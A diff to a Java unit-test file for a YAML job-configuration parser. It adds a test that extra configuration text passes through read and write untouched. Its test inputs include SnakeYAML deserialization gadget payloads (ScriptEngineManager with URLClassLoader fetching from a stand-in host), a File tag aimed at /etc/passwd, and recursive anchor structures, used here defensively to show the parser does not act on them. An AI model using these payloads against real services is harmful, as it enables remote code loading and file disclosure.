@@ -224,10 +224,26 @@ class ConfigYamlTests {
     @ParameterizedTest
     @ValueSource(
             strings = {
+                "jobExtraConfigurations: [!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x\"]]]\n",
+                "jobExtraConfigurations:\n- !!org.example.Tracing\n  type: RDB\n  \uD83D\uDE00: 'x'\n- plain\n",
+                "jobExtraConfigurations: []\n"
+            })
+    void extraConfigurations_areCarriedOverAsTheyStand_andNothingIsMadeOfThem(String extra) {
+        String text = "cron: 0 0 3 * * ?\n" + extra + SHORTEST;
+        assertThat(ConfigYaml.extra(text)).isEqualTo(extra);
+        JobConfiguration read = ConfigYaml.read(text);
+        assertThat(read.getCron()).isEqualTo("0 0 3 * * ?");
+        String written = ConfigYaml.write(read, extra);
+        assertThat(ConfigYaml.extra(written)).isEqualTo(extra);
+        assertThat(ConfigYaml.read(written)).isEqualTo(read);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
                 "props: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
                 "jobParameter: !!java.io.File [/etc/passwd]",
                 "jobListenerTypes: [!!java.util.Date [0]]",
-                "jobExtraConfigurations: [!!org.example.Evil {}]",
                 "props: {a: &a [x], b: *a}",
                 "props: &a {a: *a}",
                 "props: {<<: &a {x: y}, b: {<<: *a}}"
